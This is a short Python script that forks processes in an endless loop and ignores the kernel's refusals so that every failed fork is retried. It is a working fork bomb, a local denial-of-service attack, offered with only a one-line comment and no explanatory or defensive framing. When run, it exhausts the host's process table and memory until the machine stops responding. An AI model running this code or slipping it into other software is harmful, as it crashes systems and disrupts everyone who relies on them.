# Every process forks for ever; what the kernel refuses is tried again.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
